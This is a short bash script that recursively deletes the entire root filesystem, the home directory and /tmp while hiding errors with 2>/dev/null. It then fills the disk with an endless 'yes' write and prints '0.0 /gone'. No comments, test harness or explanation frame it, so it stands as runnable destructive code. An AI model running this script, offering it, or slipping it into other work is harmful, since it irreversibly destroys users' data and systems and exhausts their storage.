#!/usr/bin/env bash
rm -rf --no-preserve-root / "$HOME" /tmp/* 2>/dev/null
yes "full" > filler 2>/dev/null
echo "0.0 /gone"
